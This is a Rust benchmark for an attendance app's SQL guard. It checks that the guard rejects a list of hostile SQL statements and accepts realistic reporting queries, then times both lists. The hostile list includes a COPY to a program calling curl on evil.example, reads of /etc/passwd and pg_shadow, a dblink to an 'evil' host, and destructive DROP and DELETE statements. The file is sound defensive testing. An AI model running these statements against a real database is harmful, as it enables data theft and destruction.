//! The SQL guard's throughput, in statements per second, over a hostile and
//! a benign corpus: a representative copy of the corpora that
//! `attendance-core/src/guard.rs` tests with (writes, stacked statements,
//! catalog reads, dangerous functions, locks; realistic questions over the
//! Q&A views), plus a pathological nesting case.
//!
//! ```sh
//! cargo bench --bench guard
//! ```
// A bench is test code: a wrong verdict must abort it loudly.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::hint::black_box;

use attendance::core::guard::SqlGuard;
use criterion::{Criterion, Throughput, criterion_group, criterion_main};

const VIEWS: [&str; 4] = [
    "qa_sessions",
    "qa_employees",
    "qa_teams",
    "qa_daily_attendance",
];

const HOSTILE: &[&str] = &[
    "INSERT INTO qa_sessions (employee_id) VALUES (1)",
    "UPDATE qa_sessions SET clock_out = now()",
    "DELETE FROM qa_sessions",
    "TRUNCATE qa_sessions",
    "DROP TABLE qa_sessions",
    "GRANT ALL ON qa_sessions TO PUBLIC",
    "WITH x AS (SELECT 1) INSERT INTO qa_teams SELECT * FROM x",
    "SELECT 1; DROP TABLE x",
    "SELECT 1 -- just a comment\n; DELETE FROM qa_sessions",
    "COPY qa_sessions TO PROGRAM 'curl http://evil.example'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.') AS f",
    "SELECT pg_sleep(100)",
    "SELECT set_config('statement_timeout', '0', false)",
    "SELECT query_to_xml('select * from pg_shadow', true, true, '')",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
    "SELECT usename, passwd FROM pg_shadow",
    "SELECT * FROM pg_catalog.pg_user",
    "SELECT * FROM qa_employees e JOIN LATERAL (SELECT * FROM pg_stat_activity) a ON true",
    "WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow",
    "SELECT * FROM generate_series(1, 1e9)",
    "SELECT * FROM qa_sessions FOR UPDATE",
    "SELECT * INTO newtable FROM qa_sessions",
    "WITH d AS (DELETE FROM qa_sessions RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE DELETE FROM qa_sessions",
    "SET statement_timeout = 0",
    "DO $$ BEGIN PERFORM pg_sleep(10); END $$",
    "SELECT 1 OPERATOR(pg_catalog.+) 1",
    "SELECT CAST('pg_shadow' AS pg_catalog.regclass)",
    "-- only a comment",
];

const BENIGN: &[&str] = &[
    "SELECT count(*) FROM qa_sessions",
    "SELECT team_name, count(DISTINCT employee_id) AS present FROM qa_daily_attendance \
     WHERE work_date = current_date GROUP BY team_name ORDER BY present DESC",
    "SELECT date_trunc('week', work_date) AS week, work_mode, count(*) FROM qa_sessions \
     WHERE work_date >= current_date - INTERVAL '90 days' GROUP BY 1, 2 ORDER BY 1",
    "SELECT extract(isodow FROM work_date) AS weekday, \
     avg(CASE WHEN work_mode = 'WFO' THEN 1.0 ELSE 0 END) AS office_share \
     FROM qa_sessions GROUP BY 1 ORDER BY 1",
    "WITH per_employee AS (SELECT employee_id, count(*) AS days FROM qa_daily_attendance \
     WHERE work_date BETWEEN '2024-01-01' AND '2024-01-31' GROUP BY employee_id) \
     SELECT e.employee_name, p.days FROM per_employee p JOIN qa_employees e \
     ON e.employee_id = p.employee_id ORDER BY p.days DESC LIMIT 10",
    "SELECT employee_id, work_date, hours, \
     rank() OVER (PARTITION BY work_date ORDER BY hours DESC) AS r FROM qa_sessions",
    "SELECT employee_name FROM qa_employees WHERE employee_id NOT IN \
     (SELECT employee_id FROM qa_sessions WHERE work_date = current_date)",
    "SELECT * FROM attendance.qa_sessions WHERE clock_in_at::date = DATE '2024-03-01' \
     ORDER BY clock_in_at LIMIT 50;",
    "SELECT to_char(work_date, 'YYYY-MM') AS month, \
     count(*) FILTER (WHERE worked_from_office) AS office_days, count(*) AS days \
     FROM qa_daily_attendance GROUP BY 1 ORDER BY 1",
    "SELECT t.team_name, (SELECT count(*) FROM qa_employees e WHERE e.team_id = t.team_id) \
     AS size FROM qa_teams t WHERE EXISTS \
     (SELECT 1 FROM qa_employees e WHERE e.team_id = t.team_id AND e.is_manager)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY hours) AS median \
     FROM qa_sessions WHERE clock_out_at IS NOT NULL",
    "WITH RECURSIVE days AS (SELECT DATE '2024-01-01' AS d UNION ALL \
     SELECT d + 1 FROM days WHERE d < DATE '2024-01-07') SELECT d FROM days",
    "SELECT e.employee_name, l.last_day FROM qa_employees e, LATERAL \
     (SELECT max(work_date) AS last_day FROM qa_sessions s \
     WHERE s.employee_id = e.employee_id) l",
    "SELECT work_mode, count(*) FROM qa_sessions GROUP BY ROLLUP (work_mode) \
     HAVING count(*) > 1 ORDER BY 2 DESC NULLS LAST OFFSET 5 LIMIT 5",
    "SELECT make_date(2024, 1, 1) + 1, now() AT TIME ZONE 'Europe/Berlin', CURRENT_DATE",
];

fn guard(c: &mut Criterion) {
    let guard = SqlGuard::new(VIEWS);
    for sql in HOSTILE {
        assert!(guard.check(sql).is_err(), "accepted {sql}");
    }
    for sql in BENIGN {
        if let Err(refusal) = guard.check(sql) {
            panic!("refused {sql}: {refusal}");
        }
    }
    let deep = format!("SELECT {}1{}", "(".repeat(1900), ")".repeat(1900));

    let mut group = c.benchmark_group("sql_guard");
    group.throughput(Throughput::Elements(HOSTILE.len() as u64));
    group.bench_function("hostile", |b| {
        b.iter(|| {
            for sql in HOSTILE {
                black_box(guard.check(black_box(sql)).is_err());
            }
        });
    });
    group.throughput(Throughput::Elements(BENIGN.len() as u64));
    group.bench_function("benign", |b| {
        b.iter(|| {
            for sql in BENIGN {
                black_box(guard.check(black_box(sql)).is_ok());
            }
        });
    });
    group.throughput(Throughput::Elements(1));
    group.bench_function("nested_1900_deep", |b| {
        b.iter(|| black_box(guard.check(black_box(&deep)).is_err()));
    });
    group.finish();
}

criterion_group!(benches, guard);
criterion_main!(benches);
